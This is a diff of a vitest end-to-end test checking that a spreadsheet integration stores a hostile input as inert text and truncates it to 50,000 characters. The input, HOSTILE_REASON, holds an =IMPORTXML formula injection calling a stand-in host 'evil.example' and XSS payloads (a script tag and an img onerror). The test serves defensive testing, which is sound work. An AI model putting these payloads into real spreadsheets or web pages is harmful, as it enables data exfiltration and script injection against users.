@@ -3,7 +3,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { SHEET_NAME } from '../../proto/contract.js';
 import { Chain, WEB_URL } from './chain.js';
-import { describeVerdict, expectedText } from './checker.js';
+import { describeVerdict, isSameText } from './checker.js';
 
 export const HOSTILE_REASON = `=IMPORTXML("http://evil.example/x","//a") <script>alert(1)</script> <img src=x onerror=alert(2)> 🔑 שלום עולם ${'x'.repeat(60_000)}`;
 
@@ -35,7 +35,9 @@ describe('end to end: sheet actions', () => {
     const sheet = chain.runtime.spreadsheet.getSheetByName(SHEET_NAME)!;
     let row = 0;
     for (let i = 2; i <= sheet.getLastRow(); i++) if (sheet.cell(i, 1).value === r.id) row = i;
-    expect(sheet.cell(row, 7)).toMatchObject({ kind: 'text', value: expectedText(HOSTILE_REASON) });
+    expect(sheet.cell(row, 7).kind).toBe('text');
+    expect(isSameText(sheet.cell(row, 7).value, HOSTILE_REASON)).toBe(true);
+    expect(String(sheet.cell(row, 7).value).length).toBeLessThanOrEqual(50_000);
     expect(sheet.cell(row, 3)).toMatchObject({ kind: 'text', value: '=HYPERLINK("http://x","y")' });
 
     chain.runtime.setActiveRange(SHEET_NAME, `C${row}`);
